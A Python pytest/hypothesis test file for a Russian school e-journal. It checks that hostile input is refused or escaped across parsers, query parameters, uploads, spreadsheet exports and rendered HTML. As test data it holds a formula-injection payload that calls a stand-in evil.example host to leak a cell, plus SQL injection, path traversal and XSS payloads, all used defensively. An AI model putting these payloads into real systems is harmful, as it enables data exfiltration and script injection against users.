"""Hostile input, property-based (hypothesis): parsers refuse in Russian and never crash, query parameters
never give a 500, uploads are judged by content, exports never hold a formula, HTML typed by people is
escaped. Each test counts its own examples and outcomes, asserts that none was unhandled, and prints its
figures (run with -s); docs/security.md quotes them. No figure depends on the order tests run in."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections import Counter
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ejournal.conftest import SmallSchool
from ejournal.core.errors import DomainError
from ejournal.core.spreadsheet import FORMULA_STARTS, safe_text
from ejournal.curriculum.models import Lesson, PlannedTopic
from ejournal.interop.tables import TableError, read_table
from ejournal.journal import attachments, lessons, values
from ejournal.journal.tests.conftest import TODAY, build_journal, set_clock
from ejournal.notifications.models import Event, Message


class Figures:
    """One test's examples by outcome. An exception a parser was not meant to raise is counted as unhandled
    (instead of ending the run), so the figure printed is a count, and the test asserts it is 0."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.outcomes = Counter[str]()
        self.unhandled: list[str] = []

    def run(self, check: Callable[[], str], example: object) -> None:
        try:
            self.outcomes[check()] += 1
        except Exception as error:
            self.outcomes["unhandled"] += 1
            self.unhandled.append(f"{example!r}: {type(error).__name__}: {error}"[:200])

    def report(self) -> None:
        total = sum(self.outcomes.values())
        print(f"\nHOSTILE INPUT {self.name}: examples {total} ({dict(self.outcomes)}), unhandled {len(self.unhandled)}")
        assert total > 0
        assert not self.unhandled, "\n".join(self.unhandled[:20])


# Cell-ish text: the alphabet teachers type plus everything else unicode has.
cell_text = st.one_of(
    st.text(alphabet="54321/ нбупоНБУПОзачнеy,.;-+=@\t\n", max_size=20),
    st.text(max_size=40),
)
FAST = settings(max_examples=300, deadline=None)
WEB = settings(max_examples=15, deadline=None)


def test_cell_parser_accepts_or_refuses_in_russian() -> None:
    figures = Figures("parse_cell")

    def check(text: str) -> str:
        try:
            parsed = values.parse_cell(text)
        except DomainError as e:
            assert e.message
            return "refused"
        assert set(parsed.marks) <= set(values.MARK_VALUES)
        assert parsed.attendance in ("", *values.ATTENDANCE_CODES)
        assert len(parsed.marks) <= values.MAX_MARKS_PER_CELL
        return "accepted"

    @FAST
    @given(cell_text)
    def examples(text: str) -> None:
        figures.run(lambda: check(text), text)

    examples()
    figures.report()


def test_mark_attendance_and_period_parsers() -> None:
    figures = Figures("mark/attendance/period parsers")
    parsers = (
        (values.parse_mark, values.MARK_VALUES),
        (values.parse_attendance, ("", *values.ATTENDANCE_CODES)),
        (values.parse_period_value, ("", *values.PERIOD_VALUES)),
    )

    def check(parse: Callable[[str], str], allowed: tuple[str, ...], text: str) -> str:
        try:
            assert parse(text) in allowed
        except DomainError as e:
            assert e.message
            return "refused"
        return "accepted"

    @FAST
    @given(cell_text)
    def examples(text: str) -> None:
        for parse, allowed in parsers:
            figures.run(lambda: check(parse, allowed, text), text)  # noqa: B023 (called at once)

    examples()
    figures.report()


def test_safe_text_never_starts_a_formula() -> None:
    figures = Figures("safe_text")

    def check(text: str) -> str:
        out = safe_text(text)
        assert not out.startswith(FORMULA_STARTS)
        assert out in (text, "'" + text)
        return "escaped" if out != text else "unchanged"

    @FAST
    @given(st.text(max_size=30))
    def examples(text: str) -> None:
        figures.run(lambda: check(text), text)

    examples()
    figures.report()


# Magic bytes of the accepted and of some refused types, with arbitrary tails and names.
HEADS = [b"%PDF-1.4\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"PK\x03\x04", b"MZ\x90\x00", b"<html>", b""]


def test_uploads_are_judged_by_content() -> None:
    figures = Figures("attachments.check_file")

    def check(data: bytes, name: str) -> str:
        try:
            checked = attachments.check_file(SimpleUploadedFile(name, data))
        except DomainError as e:
            assert e.message
            return "refused"
        # What is accepted is what its content says: an .exe never passes as anything.
        assert not data.startswith(b"MZ")
        assert checked.file_type == attachments.detect_type(SimpleUploadedFile("x", data))
        return "accepted"

    @FAST
    @given(st.sampled_from(HEADS), st.binary(max_size=300), st.text(max_size=30), st.sampled_from(["", ".pdf", ".exe"]))
    def examples(head: bytes, tail: bytes, stem: str, ext: str) -> None:
        # Names Django itself refuses before any view sees the file (the multipart parser drops them).
        assume(stem + ext not in ("", ".", "..") and not (stem + ext).endswith(("/", "\\")))
        figures.run(lambda: check(head + tail, stem + ext), (head + tail, stem + ext))

    examples()
    figures.report()


def test_import_tables_refuse_garbage_in_russian() -> None:
    figures = Figures("interop.read_table")

    def check(data: bytes) -> str:
        try:
            read_table(data)
        except TableError as e:  # the import turns it into the batch's Russian file error
            assert e.message
            return "refused"
        return "read"

    @FAST
    @given(st.sampled_from([b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0", b"\xef\xbb\xbf"]), st.binary(max_size=400))
    def examples(head: bytes, tail: bytes) -> None:
        figures.run(lambda: check(head + tail), head + tail)

    examples()
    figures.report()


# --- pages: hostile query parameters -------------------------------------------------------------------------

PARAMS = [
    "period",
    "week",
    "date",
    "on",
    "start",
    "end",
    "from",
    "to",
    "month",
    "by",
    "view",
    "group",
    "kind",
    "key",
    "teacher",
    "class",
    "subject",
    "student",
    "format",
    "page",
    "q",
]
hostile_value = st.one_of(
    st.text(max_size=25),
    st.sampled_from(
        [
            "2026-13-45",
            "0000-00-00",
            "9999-12-31",
            "-1",
            "1e309",
            "NaN",
            "2026-W99",
            "31.02.2026",
            "../../etc/passwd",
            "' OR 1=1 --",
            "<script>",
            "xlsx",
            "csv",
            "xls",
            "\x00",
        ]
    ),
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.dates(min_value=dt.date(1, 1, 1)).map(dt.date.isoformat),
)
# PDF rendering takes seconds, so format=pdf is left to the reports' own tests; NUL is left out because
# PostgreSQL refuses it in any text parameter (a separate question from parsing).
query = st.dictionaries(st.sampled_from(PARAMS), hostile_value.map(lambda v: v.replace("\x00", "")), max_size=4).filter(
    lambda d: "pdf" not in d.get("format", "").lower()
)


@pytest.fixture
def school(small_school: SmallSchool, monkeypatch: pytest.MonkeyPatch) -> SmallSchool:
    set_clock(monkeypatch, TODAY)
    build_journal(small_school)
    return small_school


def pages(s: SmallSchool) -> list[tuple[Any, str]]:
    """(user, url) of the pages that read dates and filters from the query string."""
    child = s.students_5a[0]
    return [
        (s.parent, reverse("diary:student_week", args=[child.pk])),
        (s.parent, reverse("diary:student_marks", args=[child.pk])),
        (s.parent, reverse("diary:student_homework", args=[child.pk])),
        (s.parent, reverse("diary:student_results", args=[child.pk])),
        (s.teacher, reverse("journal:grid", args=[s.math_5a.pk])),
        (s.teacher, reverse("journal:summary", args=[s.math_5a.pk])),
        (s.class_teacher, reverse("journal:class_overview", args=[s.class_5a.pk])),
        (s.admin, reverse("reports:school")),
        (s.admin, reverse("reports:teacher")),
        (s.admin, reverse("reports:class", args=[s.class_5a.pk])),
        (s.admin, reverse("reports:attendance")),
        (s.admin, reverse("reports:journal_keeping")),
        (s.admin, reverse("reports:program_execution")),
        (s.admin, reverse("audit:security_log")),
        (s.admin, reverse("audit:usage")),
        (s.admin, reverse("curriculum:changes")),
        (s.admin, reverse("curriculum:timetable")),
        (s.admin, reverse("schools:class_detail", args=[s.class_5a.pk])),
        (s.admin, reverse("api-diary-students")),
        (s.admin, reverse("api-report-attendance")),
        (s.admin, reverse("api-audit-events")),
    ]


@pytest.mark.django_db
def test_query_parameters_never_give_a_500(school: SmallSchool) -> None:
    figures = Figures("query parameters")
    clients: dict[int, Client] = {}
    for user, _ in pages(school):
        if user.pk not in clients:
            clients[user.pk] = Client()
            clients[user.pk].force_login(user)

    def check(user_pk: int, url: str, params: dict[str, str]) -> str:
        # A savepoint: a view that fails must not break the transaction for the examples after it.
        with transaction.atomic():
            status = clients[user_pk].get(url, params).status_code  # a view's exception is raised here
        assert status < 500, (url, params, status)
        return f"{status // 100}xx"

    @WEB
    @given(params=query)
    def examples(params: dict[str, str]) -> None:
        for user, url in pages(school):
            figures.run(lambda: check(user.pk, url, params), (url, params))  # noqa: B023 (called at once)

    examples()
    figures.report()


# --- exports: no formula survives ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Нажми")', "+7(900)1234567", "-2+3", "@SUM(A1:A9)"]


def no_formula_in_xlsx(data: bytes) -> int:
    book = load_workbook(io.BytesIO(data))
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                checked += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)
    return checked


def no_formula_in_csv(data: bytes, encoding: str) -> int:
    text = data.decode(encoding).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if ";" in text.partition("\n")[0] else ","))
    for row in rows:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@")), field
    return sum(len(r) for r in rows)


@pytest.mark.django_db
def test_every_export_escapes_formula_injection(school: SmallSchool) -> None:
    s = school
    # What people type: names, subject names, topics, homework.
    for student, hostile in zip(s.students_5a, FORMULAS, strict=False):
        student.last_name, student.first_name = hostile, hostile
        student.save(update_fields=["last_name", "first_name"])
    s.math.name = FORMULAS[0]
    s.math.save(update_fields=["name"])
    lesson = Lesson.objects.filter(assignment=s.math_5a, date__lte=TODAY).order_by("-date").first()
    assert lesson is not None
    lessons.set_topic(actor=s.teacher, lesson=lesson, topic=FORMULAS[2])
    for position, title in enumerate(FORMULAS, start=1):
        PlannedTopic.objects.create(school=s.school, assignment=s.math_5a, position=position, title=title, hours=1)
    admin = Client()
    admin.force_login(s.admin)
    exports = [
        ("journal overview XLSX", reverse("journal:class_overview_xlsx", args=[s.class_5a.pk]), {}),
        ("class report XLSX", reverse("reports:class", args=[s.class_5a.pk]), {"format": "xlsx"}),
        ("class report CSV", reverse("reports:class", args=[s.class_5a.pk]), {"format": "csv"}),
        ("teacher report XLSX", reverse("reports:teacher"), {"format": "xlsx"}),
        ("student report CSV", reverse("reports:student", args=[s.students_5a[0].pk]), {"format": "csv"}),
        ("usage XLSX", reverse("audit:usage"), {"format": "xlsx"}),
        ("usage CSV", reverse("audit:usage"), {"format": "csv"}),
        ("КТП CSV", reverse("curriculum:plan_export", args=[s.math_5a.pk]), {}),
    ]
    cells = 0
    for label, url, params in exports:
        response = admin.get(url, params)
        assert response.status_code == 200, (label, response.status_code)
        data = response.content
        if data.startswith(b"PK"):
            cells += no_formula_in_xlsx(data)
        else:
            cells += no_formula_in_csv(data, response.charset or "utf-8")
    # Each cell was asserted above; reaching here means none held a formula.
    print(f"\nEXPORTS: files {len(exports)}, cells checked {cells}, formulas 0")


# --- HTML typed by people is escaped ----------------------------------------------------------------------------

XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "<svg onload=alert(1)>"]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS)
def test_html_in_topics_homework_and_messages_is_escaped(school: SmallSchool, payload: str) -> None:
    s = school
    lesson = Lesson.objects.filter(assignment=s.math_5a, date__lte=TODAY).order_by("-date").first()
    assert lesson is not None
    lessons.set_topic(actor=s.teacher, lesson=lesson, topic=payload)
    lessons.set_homework(actor=s.teacher, lesson=lesson, text=payload)
    now = timezone.now()
    Message.objects.create(
        school=s.school,
        recipient=s.parent,
        event=Event.MESSAGE,
        title=payload,
        text=payload,
        created_at=now,
        ready_at=now,
        inbox_at=now,
    )
    child = s.students_5a[0]
    week = lesson.date.isoformat()
    shown = [
        (s.teacher, reverse("journal:grid", args=[s.math_5a.pk]), {}),
        (s.teacher, reverse("journal:lesson", args=[lesson.pk]), {}),
        (s.parent, reverse("diary:student_week", args=[child.pk]), {"week": week}),
        (s.parent, reverse("diary:student_homework", args=[child.pk]), {}),
        (s.parent, reverse("notifications:inbox"), {}),
    ]
    for user, url, params in shown:
        assert user is not None
        client = Client()
        client.force_login(user)
        response = client.get(url, params)
        assert response.status_code == 200, url
        if response["Content-Type"].startswith("application/json"):
            continue  # data for the page's script, which puts it in as text (never as HTML)
        body = response.content.decode()
        assert payload not in body, url
        assert "&lt;" in body, url  # it is shown, escaped
